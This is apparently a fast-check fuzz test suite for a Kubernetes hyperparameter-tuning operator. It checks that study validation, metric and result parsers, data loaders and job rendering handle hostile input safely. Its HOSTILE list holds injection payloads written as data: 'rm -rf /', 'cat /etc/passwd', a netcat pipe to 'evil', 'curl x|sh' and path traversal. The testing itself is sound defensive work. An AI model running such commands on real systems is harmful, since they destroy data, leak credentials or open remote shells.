// Bad and hostile input, property-based (fast-check): every parser and validator that reads
// something a user, a trial or a file wrote either accepts it or fails with its documented error
// type, and every rejection of a study names the field. Each property runs with a fixed seed, so
// a failure replays exactly; the number of cases per property scales with KUBETUNE_FUZZ_SCALE
// (1 in `npm test`, where the total is just over 10,000; `npm run test:reliability` uses more).
//
// A "crash" is any exception other than the documented one, or a property that does not hold.
import assert from 'node:assert/strict';
import { after, describe, it } from 'node:test';
import fc from 'fast-check';
import { SpecError } from '../../operator/api/issues.js';
import {
  formatMetricLine, formatTrialResult, MAX_RESULT_BYTES, MetricLineError, parseMetricLine, parseTrialResult,
  paramEnvName, TrialResultError, type MetricReport, type TrialResult,
} from '../../operator/api/trial-contract.js';
import { validateStudy } from '../../operator/api/validate.js';
import { parseLog } from '../../operator/controller/logs.js';
import { renderTrialJob } from '../../operator/controller/jobs.js';
import { createSampler, samplerNames } from '../../operator/samplers/registry.js';
import { Rng } from '../../operator/samplers/rng.js';
import type { TrialRecord } from '../../operator/samplers/types.js';
import { SearchSpace } from '../../operator/space/space.js';
import type { Params } from '../../operator/space/types.js';
import { coerceParam, resolveParams } from '../../trainer/config/params.js';
import { parseTrainerConfig } from '../../trainer/config/trainer-config.js';
import { parseCsv } from '../../trainer/data/csv.js';
import { parseIdx } from '../../trainer/data/idx.js';
import { TrainerError } from '../../trainer/errors.js';
import { record } from './record.js';

const SCALE = Math.max(0.01, Number(process.env.KUBETUNE_FUZZ_SCALE ?? '1'));
const SEED = Number(process.env.KUBETUNE_FUZZ_SEED ?? '20261125');
let cases = 0;
let crashes = 0;

/**
 * Runs `predicate` over `runs × SCALE` inputs: it must return normally (or throw one of `allowed`
 * when given). Counts cases and crashes, then fails the test with fast-check's shrunk
 * counterexample if there was one.
 */
function check<T>(name: string, runs: number, arb: fc.Arbitrary<T>, predicate: (value: T) => void, allowed: (new (...a: never[]) => Error)[] = []): void {
  const numRuns = Math.max(1, Math.round(runs * SCALE));
  const result = fc.check(fc.property(arb, (value) => {
    try {
      predicate(value);
    } catch (err) {
      if (allowed.some((E) => err instanceof E)) return;
      throw err;
    }
  }), { numRuns, seed: SEED, endOnFailure: true });
  cases += result.numRuns;
  if (result.failed) crashes += 1;
  assert.ok(!result.failed, `${name}: ${fc.defaultReportMessage(result) ?? 'failed'}`);
}

after(() => {
  console.error(`# fuzz: ${cases} cases, ${crashes} crashes (scale ${SCALE}, seed ${SEED})`);
  record({ source: 'fuzz', fuzzCases: cases, crashes });
});

// ---------------------------------------------------------------------------------------------
// Hostile strings: shell and template injection, traversal, control characters, huge numbers.
const HOSTILE = [
  '$(rm -rf /)', '`id`', '; cat /etc/passwd', '| nc evil 4444', '&& curl x|sh', '{{ .Values.secret }}', '${HOME}', '%s%s%n',
  '../../../../etc/passwd', '..\\..\\windows', '/etc/shadow', '\u0000', '\r\nX-Injected: 1', '\u202e', 'a'.repeat(5000),
  '1e309', '-1e309', 'NaN', 'Infinity', '9007199254740993', '0x10', '__proto__', 'constructor', 'KUBETUNE_PARAM_X',
];
const hostileString = fc.oneof(fc.constantFrom(...HOSTILE), fc.string({ maxLength: 40 }), fc.string({ unit: 'binary', maxLength: 40 }));
const hugeNumber = fc.oneof(
  fc.double(), fc.constantFrom(Number.MAX_VALUE, -Number.MAX_VALUE, Number.MIN_VALUE, Number.MAX_SAFE_INTEGER + 2, 1e308, -0),
  fc.integer(), fc.bigInt().map(Number),
);
const jsonish: fc.Arbitrary<unknown> = fc.letrec((tie) => ({
  value: fc.oneof({ depthSize: 'small' }, hostileString, hugeNumber, fc.boolean(), fc.constant(null),
    fc.array(tie('value'), { maxLength: 5 }), fc.dictionary(hostileString, tie('value'), { maxKeys: 5 })),
})).value;

// ---------------------------------------------------------------------------------------------
// Studies.

const BASE = {
  apiVersion: 'kubetune.io/v1alpha1',
  kind: 'TuningStudy',
  metadata: { name: 'fuzz' },
  spec: {
    objective: { metric: 'loss', goal: 'minimize' },
    parameters: [
      { name: 'x', type: 'float', min: -1, max: 1 },
      { name: 'n', type: 'int', min: 1, max: 64, log: true },
      { name: 'opt', type: 'categorical', values: ['adam', 'sgd'] },
      { name: 'm', type: 'float', min: 0, max: 0.9, when: { opt: 'sgd' } },
    ],
    algorithm: { name: 'tpe', seed: 1 },
    budget: { maxTrials: 10, parallelism: 2, trialTimeout: '10m' },
    template: { image: 'node:20', command: ['node', 'train.js'] },
  },
};

/** Every path of a JSON document, as segment lists (objects' keys and arrays' indices). */
function pathsOf(doc: unknown, prefix: (string | number)[] = []): (string | number)[][] {
  const out = [prefix];
  if (Array.isArray(doc)) doc.forEach((v, i) => out.push(...pathsOf(v, [...prefix, i])));
  else if (typeof doc === 'object' && doc !== null) for (const [k, v] of Object.entries(doc)) out.push(...pathsOf(v, [...prefix, k]));
  return out;
}

/** `doc` with the value at `path` replaced (or, for `undefined`, removed). */
function mutate(doc: unknown, path: (string | number)[], value: unknown): unknown {
  const copy = structuredClone(doc) as Record<string | number, unknown>;
  if (path.length === 0) return value;
  let node = copy;
  for (const seg of path.slice(0, -1)) node = node[seg] as Record<string | number, unknown>;
  const last = path.at(-1) as string | number;
  if (value === undefined) {
    if (Array.isArray(node)) node.splice(last as number, 1);
    else delete node[last];
  } else node[last] = value;
  return copy;
}

const BASE_PATHS = pathsOf(BASE);

/** The base study with one to three fields replaced by hostile values, removed or added. */
const nearValidStudy = fc.array(
  fc.tuple(fc.constantFrom(...BASE_PATHS), fc.oneof(jsonish, fc.constant(undefined)), fc.option(hostileString)),
  { minLength: 1, maxLength: 3 },
).map((edits) => {
  let doc: unknown = BASE;
  for (const [path, value, extraKey] of edits) {
    try {
      doc = extraKey !== null && value !== undefined && pathsOf(doc).some((p) => p.join('\0') === path.join('\0'))
        ? mutate(doc, [...path, extraKey], value)
        : mutate(doc, path, value);
    } catch {
      // an earlier edit removed the parent; keep the document as it is
    }
  }
  return doc;
});

/** Decodes a JSON pointer into its segments. */
function segments(pointer: string): string[] {
  return pointer === '' ? [] : pointer.slice(1).split('/').map((s) => s.replace(/~1/g, '/').replace(/~0/g, '~'));
}

/** True when every segment of `pointer` but the last exists in `doc`: the path names a field of it. */
function namesAField(doc: unknown, pointer: string): boolean {
  let node = doc;
  for (const seg of segments(pointer).slice(0, -1)) {
    if (typeof node !== 'object' || node === null || !Object.hasOwn(node, seg)) return false;
    node = (node as Record<string, unknown>)[seg];
  }
  return true;
}

function checkIssues(doc: unknown): void {
  const { issues, resolved } = validateStudy(doc);
  assert.equal(resolved === undefined, issues.length > 0, 'resolved exactly when there are no issues');
  for (const issue of issues) {
    assert.equal(typeof issue.code, 'string');
    assert.ok(issue.message.length > 0, 'every issue says something');
    assert.ok(issue.path === '' || issue.path.startsWith('/'), `a JSON pointer: ${issue.path}`);
    if (typeof doc === 'object' && doc !== null && !Array.isArray(doc)) {
      assert.notEqual(issue.path, '', `an object's issue names a field: ${JSON.stringify(issue)}`);
      assert.ok(namesAField(doc, issue.path), `the path leads into the document: ${JSON.stringify(issue)}`);
    }
  }
}

describe('TuningStudy validation under hostile input', () => {
  it('never throws on arbitrary JSON, and every issue is a JSON pointer with a message', () => {
    check('arbitrary JSON', 1500, jsonish, checkIssues);
  });

  it('never throws on near-valid studies, and every rejection names a field that is in the document', () => {
    check('near-valid studies', 2000, nearValidStudy, checkIssues);
  });

  it('rejects study names that could escape a directory or a label, at /metadata/name', () => {
    check('hostile names', 400, hostileString, (name) => {
      const { issues } = validateStudy({ ...BASE, metadata: { name } });
      if (/^[a-z0-9]([-a-z0-9]*[a-z0-9])?$/.test(name) && name.length <= 40) return;
      assert.ok(issues.some((i) => i.path === '/metadata/name'), `name ${JSON.stringify(name)} refused at /metadata/name`);
    });
  });

  it('rejects parameter names that are not plain identifiers, so no name reaches a shell or a file path', () => {
    check('hostile parameter names', 400, hostileString, (name) => {
      const spec = { ...BASE.spec, parameters: [{ name, type: 'float', min: 0, max: 1 }] };
      const { issues } = validateStudy({ ...BASE, spec });
      if (/^[A-Za-z_][A-Za-z0-9_.-]{0,62}$/.test(name)) return;
      assert.ok(issues.some((i) => i.path === '/spec/parameters/0/name'), `${JSON.stringify(name)} refused`);
    });
  });

  it('bounds oversize and deeply nested specs with an issue instead of work', () => {
    const wide = { ...BASE, spec: { ...BASE.spec, parameters: Array.from({ length: 300 }, (_, i) => ({ name: `p${i}`, type: 'float', min: 0, max: 1 })) } };
    assert.ok(validateStudy(wide).issues.some((i) => i.path === '/spec/parameters'));
    const many = { ...BASE, spec: { ...BASE.spec, parameters: [{ name: 'c', type: 'categorical', values: Array.from({ length: 5000 }, (_, i) => i) }] } };
    assert.ok(validateStudy(many).issues.length > 0);
    let deep: unknown = 1;
    for (let i = 0; i < 2000; i++) deep = { a: deep };
    const nested = { ...BASE, spec: { ...BASE.spec, algorithm: { name: 'tpe', settings: deep } } };
    assert.ok(validateStudy(nested).issues.length > 0, 'settings nested 2000 deep are refused');
    cases += 3;
  });
});

// ---------------------------------------------------------------------------------------------
// Search spaces and samplers.

const paramName = fc.stringMatching(/^[a-z][a-z0-9_]{0,8}$/);
const finite = fc.double({ min: -1e6, max: 1e6, noNaN: true, noDefaultInfinity: true });
const paramSpec = fc.oneof(
  fc.tuple(finite, finite, fc.boolean(), fc.option(fc.double({ min: 1e-3, max: 10, noNaN: true }))).map(([a, b, log, step]) => {
    const [min, max] = a < b ? [a, b] : [b, a + 1];
    if (log && min > 0) return { type: 'float', min, max, log: true };
    return step !== null && (max - min) / step < 1000 && (max - min) >= step ? { type: 'float', min, max, step } : { type: 'float', min, max };
  }),
  fc.tuple(fc.integer({ min: -1000, max: 1000 }), fc.integer({ min: 1, max: 5000 }), fc.boolean()).map(([min, span, log]) =>
    log && min >= 1 ? { type: 'int', min, max: min + span + 1, log: true } : { type: 'int', min, max: min + span }),
  fc.uniqueArray(fc.oneof(fc.string({ maxLength: 6 }), fc.integer(), fc.boolean()), { minLength: 1, maxLength: 6, comparator: 'SameValueZero' })
    .map((values) => ({ type: 'categorical', values })),
  fc.uniqueArray(fc.string({ minLength: 1, maxLength: 6 }), { minLength: 1, maxLength: 5 }).map((values) => ({ type: 'subset', values })),
);
/** A valid space of 1–5 parameters; the last may be conditional on an earlier categorical one. */
const space = fc.uniqueArray(fc.tuple(paramName, paramSpec), { minLength: 1, maxLength: 5, selector: ([n]) => n.toUpperCase() })
  .map((list) => {
    const params: Record<string, unknown>[] = list.map(([name, spec]) => ({ name, ...spec }));
    const parent = params.find((p) => p.type === 'categorical');
    const last = params.at(-1) as Record<string, unknown>;
    if (parent !== undefined && parent !== last) last.when = { [parent.name as string]: (parent.values as unknown[])[0] };
    return params;
  });

function gridCannot(s: Record<string, unknown>[]): boolean {
  return s.some((p) => p.type === 'float' && p.step === undefined);
}

describe('samplers over any valid search space', () => {
  const names = samplerNames();
  it(`return legal parameters from every sampler (${names.join(', ')}), with a history that grows`, () => {
    check('samplers', 150, fc.tuple(space, fc.integer({ min: 0, max: 2 ** 31 - 1 }), fc.constantFrom<'minimize' | 'maximize'>('minimize', 'maximize')), ([raw, seed, goal]) => {
      // The generator aims at valid spaces; the few it misses (a float step the range rounds
      // away) are the validator's business, covered above, not the samplers'.
      let parsed: SearchSpace;
      try {
        parsed = SearchSpace.parse(raw, '/parameters');
      } catch (err) {
        if (err instanceof SpecError) return;
        throw err;
      }
      for (const name of names) {
        if (name === 'grid' && gridCannot(raw)) continue;
        const sampler = createSampler(name, {});
        const history: TrialRecord[] = [];
        for (let index = 0; index < 6; index++) {
          let got;
          try {
            got = sampler.suggest(parsed, history, { index, seed, goal, rng: new Rng(seed, index, name) });
          } catch (err) {
            // A sampler may refuse a space it cannot search (a grid of a million points) only if
            // the study validator's dry run refuses it too, with an issue, before any trial runs.
            const study = { ...BASE, spec: { ...BASE.spec, parameters: raw, algorithm: { name, seed } } };
            if (index === 0 && validateStudy(study).issues.some((i) => i.path.startsWith('/spec/algorithm'))) break;
            throw err;
          }
          if ('exhausted' in got) break;
          assert.deepEqual(parsed.check(got.params), [], `${name} trial ${index}: ${JSON.stringify(got.params)} in ${JSON.stringify(raw)}`);
          const value = new Rng(seed, index, 'value').uniform(-1, 1);
          history.push({ index, params: got.params, state: index % 4 === 3 ? 'failed' : 'succeeded', value: index % 5 === 4 ? Number.NaN : value });
        }
      }
    });
  });
});

// ---------------------------------------------------------------------------------------------
// The trial contract: metric lines and termination messages.

const metricName = fc.stringMatching(/^[A-Za-z_][A-Za-z0-9_.\-/]{0,20}$/).filter((n) => n !== 'step');
const metricValue = fc.oneof(fc.double(), fc.constantFrom(Number.NaN, Infinity, -Infinity, -0, 1e308, 5e-324));
const report: fc.Arbitrary<MetricReport> = fc.record({
  step: fc.integer({ min: 0, max: 1e15 - 1 }),
  values: fc.dictionary(metricName, metricValue, { minKeys: 1, maxKeys: 6 }),
});

/** Lines that look like metric lines often enough to reach the grammar's corners. */
const lineish = fc.oneof(
  hostileString,
  fc.tuple(fc.constantFrom('kubetune-metrics ', 'kubetune-metrics', 'KUBETUNE-METRICS ', 'kubetune-metrics  '),
    fc.array(fc.oneof(hostileString, fc.tuple(fc.oneof(metricName, hostileString), fc.oneof(hostileString, fc.constantFrom('nan', 'inf', '-Infinity', '1e999', '0x1f', '1_000')))
      .map(([k, v]) => `${k}=${v}`), fc.nat().map((n) => `step=${n}`)), { maxLength: 5 }))
    .map(([prefix, fields]) => prefix + fields.join(' ')),
);

function sameNumber(a: number | undefined, b: number | undefined): boolean {
  return Object.is(a, b) || (a === 0 && b === 0);
}

describe('trial contract parsers under hostile input', () => {
  it('parseMetricLine returns a report, ignores ordinary output, or throws MetricLineError — nothing else', () => {
    check('metric lines', 2000, lineish, (line) => {
      const got = parseMetricLine(line);
      if (got === undefined) return;
      assert.ok(Number.isInteger(got.step) && got.step >= 0);
      assert.ok(Object.keys(got.values).length > 0);
    }, [MetricLineError]);
  });

  it('formatMetricLine → parseMetricLine gives back every value, NaN and infinities included', () => {
    check('metric round trip', 1000, report, (r) => {
      const back = parseMetricLine(formatMetricLine(r));
      assert.ok(back !== undefined);
      assert.equal(back.step, r.step);
      assert.deepEqual(Object.keys(back.values).sort(), Object.keys(r.values).sort());
      for (const [k, v] of Object.entries(r.values)) assert.ok(sameNumber(back.values[k], v), `${k}: ${v} → ${back.values[k]}`);
    });
  });

  it('a trial log of garbage, NaN and broken lines is collected without throwing', () => {
    check('trial logs', 300, fc.array(fc.oneof(lineish, report.map(formatMetricLine)), { maxLength: 30 }), (lines) => {
      const collected = parseLog(lines.join('\n'));
      assert.ok(collected.reports.length + collected.badLines.length <= lines.length);
    });
  });

  const resultDoc = fc.oneof(
    hostileString,
    jsonish.map((v) => JSON.stringify(v) ?? ''),
    fc.record({ status: fc.oneof(fc.constantFrom('succeeded', 'failed', 'pruned'), hostileString), metrics: fc.oneof(fc.dictionary(fc.oneof(metricName, hostileString), fc.oneof(metricValue, jsonish)), jsonish), step: fc.oneof(fc.nat(), jsonish), reason: jsonish, message: jsonish }, { requiredKeys: ['status'] })
      .map((d) => JSON.stringify(d)),
    fc.string({ minLength: MAX_RESULT_BYTES * 4 - 10, maxLength: MAX_RESULT_BYTES * 4 + 10 }),
  );

  it('parseTrialResult returns a result or throws TrialResultError — for garbage, wrong types and oversize documents', () => {
    check('termination messages', 1500, resultDoc, (text) => {
      const r = parseTrialResult(text);
      assert.ok(['succeeded', 'failed', 'pruned'].includes(r.status));
      for (const v of Object.values(r.metrics)) assert.equal(typeof v, 'number');
    }, [TrialResultError]);
  });

  const trialResult: fc.Arbitrary<TrialResult> = fc.record({
    status: fc.constantFrom('succeeded', 'failed', 'pruned'),
    metrics: fc.dictionary(metricName, metricValue, { maxKeys: 8 }),
    step: fc.nat(),
    reason: fc.stringMatching(/^[A-Za-z]{0,30}$/),
    message: fc.oneof(fc.string({ maxLength: 100 }), fc.string({ minLength: 4000, maxLength: 20_000 }), fc.string({ unit: 'binary', maxLength: 3000 })),
  }, { requiredKeys: ['status', 'metrics'] });

  it('formatTrialResult always fits the termination message and parses back to the same result (message shortened only)', () => {
    check('result round trip', 1000, trialResult, (r) => {
      const text = formatTrialResult(r);
      assert.ok(Buffer.byteLength(text) <= MAX_RESULT_BYTES, `${Buffer.byteLength(text)} bytes`);
      const back = parseTrialResult(text);
      assert.equal(back.status, r.status);
      assert.equal(back.step, r.step);
      assert.equal(back.reason, r.reason);
      for (const [k, v] of Object.entries(back.metrics)) assert.ok(sameNumber(v, r.metrics[k]), k);
      if (r.message !== undefined && Buffer.byteLength(JSON.stringify(r)) <= MAX_RESULT_BYTES - 200) assert.equal(back.message, r.message);
    });
  });
});

// ---------------------------------------------------------------------------------------------
// The trainer: data files and parameters.

describe('trainer loaders and parameters under hostile input', () => {
  it('parseCsv returns a table or a DatasetError for any text', () => {
    const csvish = fc.oneof(
      fc.string({ maxLength: 300 }), fc.string({ unit: 'binary', maxLength: 300 }),
      fc.array(fc.array(fc.oneof(hostileString, fc.constantFrom('"', '""', '"a,b"', '\r', ''), fc.double().map(String)), { maxLength: 5 }), { maxLength: 8 })
        .map((rows) => rows.map((r) => r.join(',')).join('\n')),
    );
    check('CSV text', 1000, csvish, (text) => {
      const t = parseCsv(text, 'fuzz.csv');
      assert.ok(t.header.length > 0 && t.rows.length > 0);
    }, [TrainerError]);
  });

  it('parseIdx returns an array or a DatasetError for any bytes, including lying headers', () => {
    const idxish = fc.oneof(
      fc.uint8Array({ maxLength: 64 }),
      fc.tuple(fc.integer({ min: 0, max: 4 }), fc.array(fc.integer({ min: 0, max: 0xffffffff }), { minLength: 0, maxLength: 4 }), fc.uint8Array({ maxLength: 64 }), fc.constantFrom(0x08, 0x09, 0x0d))
        .map(([dims, sizes, data, type]) => {
          const head = Buffer.alloc(4 + 4 * sizes.length);
          head[2] = type;
          head[3] = dims;
          sizes.forEach((s, i) => head.writeUInt32BE(s, 4 + 4 * i));
          return new Uint8Array(Buffer.concat([head, data]));
        }),
      fc.tuple(fc.integer({ min: 1, max: 6 }), fc.integer({ min: 1, max: 6 }), fc.integer({ min: -2, max: 2 })).map(([n, m, off]) => {
        const head = Buffer.alloc(12);
        head[2] = 8;
        head[3] = 2;
        head.writeUInt32BE(n, 4);
        head.writeUInt32BE(m, 8);
        return new Uint8Array(Buffer.concat([head, Buffer.alloc(Math.max(0, n * m + off))]));
      }),
    );
    check('IDX bytes', 1000, idxish, (bytes) => {
      const a = parseIdx(bytes, 'fuzz-idx');
      assert.equal(a.data.length, a.shape.reduce((x, y) => x * y, 1));
    }, [TrainerError]);
  });

  it('trainer parameters: any name and value is a known, range-checked value or an InvalidParameter naming it', () => {
    const names = fc.oneof(fc.constantFrom('optimizer', 'learning_rate', 'batch_size', 'epochs', 'nesterov', 'features', 'units_3', 'filters_99', 'layers', '__proto__'), hostileString);
    check('trainer params', 1000, fc.dictionary(names, fc.oneof(jsonish, hostileString, hugeNumber), { maxKeys: 4 }), (trial) => {
      try {
        const p = resolveParams({}, trial);
        assert.ok(Number.isFinite(p.learning_rate) && p.learning_rate > 0);
        assert.ok(Number.isInteger(p.batch_size));
        for (const [name, raw] of Object.entries(trial)) coerceParam(name, raw);
      } catch (err) {
        if (err instanceof TrainerError) assert.equal(err.reason, 'InvalidParameter');
        throw err;
      }
    }, [TrainerError]);
  });

  it('trainer config: any document is a config or an InvalidConfig/DatasetError', () => {
    const configish = fc.oneof(
      fc.dictionary(hostileString, jsonish, { maxKeys: 4 }),
      fc.record({ dataset: fc.oneof(hostileString, fc.record({ kind: fc.constantFrom('csv', 'idx', 'builtin'), path: hostileString, label: hostileString })), task: fc.constantFrom('classification', 'regression', 'x'), model: jsonish, epochs: jsonish }, { requiredKeys: [] }),
    );
    check('trainer config', 800, configish, (doc) => {
      parseTrainerConfig(doc as Record<string, unknown>);
    }, [TrainerError]);
  });
});

// ---------------------------------------------------------------------------------------------
// Injection: what a parameter value can reach once the operator renders a trial.

describe('parameter values reach a trial as data, never as code', () => {
  const resolved = validateStudy({
    ...BASE,
    spec: { ...BASE.spec, parameters: [{ name: 'v', type: 'categorical', values: ['a'] }], template: { image: 'node:20', command: ['node', 'train.js'], args: ['--fixed'] } },
  }).resolved!;

  it('any value lands verbatim in its own environment variable and the params annotation; command and args are unchanged', () => {
    check('param injection', 600, fc.oneof(hostileString, fc.array(hostileString, { maxLength: 4 }), hugeNumber, fc.boolean()), (value) => {
      const params = { v: value } as Params;
      const job = renderTrialJob(resolved, { index: 7, params, seed: 1 }, { name: 'fuzz', namespace: 'ns', uid: 'u' });
      const pod = job.spec!.template.spec!;
      const c = pod.containers[0]!;
      assert.deepEqual(c.command, ['node', 'train.js'], 'no shell wraps the command');
      assert.deepEqual(c.args, ['--fixed']);
      const env = (c.env ?? []).find((e) => e.name === paramEnvName('v'));
      assert.equal(env?.value, Array.isArray(value) ? JSON.stringify(value) : String(value));
      assert.deepEqual(JSON.parse(job.metadata!.annotations!['kubetune.io/params']!), JSON.parse(JSON.stringify(params)));
      assert.equal(job.metadata!.name, 'fuzz-t7', 'names never come from values');
    });
  });

  it('no error of the search-space parser escapes validateStudy', () => {
    check('space errors', 300, fc.array(jsonish, { maxLength: 4 }), (parameters) => {
      const r = validateStudy({ ...BASE, spec: { ...BASE.spec, parameters } });
      for (const i of r.issues) assert.ok(i.path.startsWith('/'));
    });
  });
});
